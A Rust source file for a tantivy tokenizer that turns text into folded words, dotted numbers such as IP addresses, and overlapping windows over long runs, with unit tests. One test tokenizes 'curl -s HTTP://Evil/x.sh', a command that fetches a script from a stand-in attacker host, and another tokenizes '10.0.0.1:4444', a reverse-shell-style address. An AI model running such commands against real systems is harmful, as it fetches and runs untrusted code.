//! Text to terms: what the index can be asked for.
//!
//! Two kinds of terms come out of a text, both folded (see [`crate::fold`]):
//!
//! - **words**: maximal runs of letters and digits, except numbers of up to [`MAX_DROPPED_DIGITS`]
//!   digits, which stand nearly everywhere and select nothing;
//! - **dotted numbers**: maximal runs of digits and dots with at least two dots, from digit to digit:
//!   IP addresses, versions, dates.
//!
//! A run longer than [`WINDOW_BYTES`] gives overlapping windows instead of one term, so that any
//! fragment of up to [`MAX_FRAGMENT_BYTES`] bytes of it stands whole in one of them. Nothing else is
//! left out: [`crate::literal`] turns any literal into conditions on these terms that hold wherever
//! the literal stands, and drops the conditions that these rules cannot promise.

use tantivy::tokenizer::{Token, TokenStream, Tokenizer};

use crate::fold::fold_char;

/// Numbers of this many digits or fewer are no terms of their own.
pub const MAX_DROPPED_DIGITS: usize = 3;
/// The longest run that is one term, and the length of a window over a longer one.
pub const WINDOW_BYTES: usize = 64;
/// How far apart windows begin.
const STRIDE_BYTES: usize = 32;
/// The longest fragment that stands whole in a window, wherever it begins.
pub const MAX_FRAGMENT_BYTES: usize = WINDOW_BYTES - STRIDE_BYTES + 1;

/// Whether a folded character belongs to a word.
#[must_use]
pub fn is_word(folded: char) -> bool {
    folded.is_ascii_alphanumeric() || (!folded.is_ascii() && folded.is_alphanumeric())
}

/// Whether a word is too common a number to be a term.
#[must_use]
pub fn is_dropped(word: &str) -> bool {
    word.len() <= MAX_DROPPED_DIGITS && word.bytes().all(|b| b.is_ascii_digit())
}

/// Trims a run of digits and dots to its digits; `None` if fewer than two dots remain between them.
#[must_use]
pub fn dotted_number(run: &str) -> Option<&str> {
    let trimmed = run.trim_matches('.');
    (trimmed.bytes().filter(|&b| b == b'.').count() >= 2).then_some(trimmed)
}

/// The terms of one text, one after the other, into a buffer of the caller.
pub struct Terms<'a> {
    text: &'a str,
    pos: usize,
    pass: Pass,
    /// The rest of a folded long run, and where its next window begins.
    long: Option<(String, usize)>,
}

#[derive(PartialEq)]
enum Pass {
    Words,
    DottedNumbers,
}

impl<'a> Terms<'a> {
    /// Starts at the beginning of a text.
    #[must_use]
    pub fn new(text: &'a str) -> Self {
        Self { text, pos: 0, pass: Pass::Words, long: None }
    }

    /// Puts the next term into `term`; false when there is none.
    pub fn next_into(&mut self, term: &mut String) -> bool {
        if self.next_window(term) {
            return true;
        }
        if self.pass == Pass::Words {
            while self.next_word(term) {
                if term.len() > WINDOW_BYTES {
                    self.long = Some((std::mem::take(term), 0));
                    return self.next_window(term);
                }
                if !is_dropped(term) {
                    return true;
                }
            }
            self.pass = Pass::DottedNumbers;
            self.pos = 0;
        }
        while let Some(number) = self.next_dotted_number() {
            if number.len() > WINDOW_BYTES {
                self.long = Some((number.to_owned(), 0));
                return self.next_window(term);
            }
            term.clear();
            term.push_str(number);
            return true;
        }
        false
    }

    fn next_window(&mut self, term: &mut String) -> bool {
        let Some((run, start)) = &mut self.long else { return false };
        let begin = run.floor_char_boundary(*start);
        let end = run.ceil_char_boundary(*start + WINDOW_BYTES).min(run.len());
        term.clear();
        term.push_str(&run[begin..end]);
        *start += STRIDE_BYTES;
        if end == run.len() {
            self.long = None;
        }
        true
    }

    /// Reads the next word, folded, into `term`.
    fn next_word(&mut self, term: &mut String) -> bool {
        term.clear();
        let bytes = self.text.as_bytes();
        while let Some(&byte) = bytes.get(self.pos) {
            if byte.is_ascii() {
                if byte.is_ascii_alphanumeric() {
                    break;
                }
                self.pos += 1;
            } else {
                match self.char_at_pos() {
                    (c, _) if is_word(c) => break,
                    (_, len) => self.pos += len,
                }
            }
        }
        while let Some(&byte) = bytes.get(self.pos) {
            if byte.is_ascii() {
                let run = ascii_word_len(&bytes[self.pos..]);
                if run == 0 {
                    break;
                }
                let folded_from = term.len();
                term.push_str(&self.text[self.pos..self.pos + run]);
                term[folded_from..].make_ascii_lowercase();
                self.pos += run;
            } else {
                match self.char_at_pos() {
                    (c, len) if is_word(c) => {
                        term.push(c);
                        self.pos += len;
                    }
                    _ => break,
                }
            }
        }
        !term.is_empty()
    }

    /// The folded character at the position, and the length of the unfolded one.
    fn char_at_pos(&self) -> (char, usize) {
        self.text[self.pos..].chars().next().map_or(('\0', 1), |c| (fold_char(c), c.len_utf8()))
    }

    fn next_dotted_number(&mut self) -> Option<&'a str> {
        let bytes = self.text.as_bytes();
        let part_of_number = |b: &u8| b.is_ascii_digit() || *b == b'.';
        loop {
            // Dots are much rarer than digits, so look for a dot and walk back from it.
            let dot = self.pos + memchr::memchr(b'.', &bytes[self.pos..])?;
            let before = bytes[self.pos..dot].iter().rev().take_while(|b| part_of_number(b)).count();
            let after = bytes[dot..].iter().take_while(|b| part_of_number(b)).count();
            self.pos = dot + after;
            if let Some(number) = dotted_number(&self.text[dot - before..dot + after]) {
                return Some(number);
            }
        }
    }
}

fn ascii_word_len(bytes: &[u8]) -> usize {
    bytes.iter().take_while(|b| b.is_ascii_alphanumeric()).count()
}

/// [`Terms`] as tantivy asks for them.
#[derive(Clone, Default)]
pub struct TermTokenizer;

impl Tokenizer for TermTokenizer {
    type TokenStream<'a> = TermStream<'a>;

    fn token_stream<'a>(&'a mut self, text: &'a str) -> TermStream<'a> {
        TermStream { terms: Terms::new(text), token: Token { position: 0, ..Token::default() } }
    }
}

/// The stream of one text. Offsets and positions stay zero: the index keeps neither.
pub struct TermStream<'a> {
    terms: Terms<'a>,
    token: Token,
}

impl TokenStream for TermStream<'_> {
    fn advance(&mut self) -> bool {
        self.terms.next_into(&mut self.token.text)
    }

    fn token(&self) -> &Token {
        &self.token
    }

    fn token_mut(&mut self) -> &mut Token {
        &mut self.token
    }
}

/// All terms of a text, for tests and explanations.
#[must_use]
pub fn terms(text: &str) -> Vec<String> {
    let mut stream = Terms::new(text);
    let mut term = String::new();
    let mut all = Vec::new();
    while stream.next_into(&mut term) {
        all.push(term.clone());
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_and_dotted_numbers() {
        for (text, expected) in [
            ("curl -s HTTP://Evil/x.sh", vec!["curl", "s", "http", "evil", "x", "sh"]),
            ("10.0.0.1:4444", vec!["4444", "10.0.0.1"]),
            ("eth0 1.2 .1.2.3. 12 1234", vec!["eth0", "1234", "1.2.3"]),
            ("naïve ÄÖ 日本語", vec!["naïve", "äö", "日本語"]),
            ("...", vec![]),
            ("a10.0.0.1b", vec!["a10", "1b", "10.0.0.1"]),
        ] {
            assert_eq!(terms(text), expected, "{text}");
        }
    }

    #[test]
    fn a_long_run_becomes_windows_that_hold_every_fragment() {
        for run in ["x".repeat(40) + &"abcdefgh0".repeat(40), "日本語テキスト".repeat(30)] {
            let terms = terms(&run);
            assert!(terms.iter().all(|t| t.len() <= WINDOW_BYTES + 6));
            for start in (0..run.len()).filter(|&i| run.is_char_boundary(i)) {
                let end = run.floor_char_boundary(start + MAX_FRAGMENT_BYTES);
                let fragment = &run[start..end];
                assert!(terms.iter().any(|t| t.contains(fragment)), "{start}");
            }
            let (head, tail) =
                (&run[..run.floor_char_boundary(33)], &run[run.ceil_char_boundary(run.len() - 33)..]);
            assert!(terms.iter().any(|t| t.starts_with(head)));
            assert!(terms.iter().any(|t| t.ends_with(tail)));
        }
    }
}
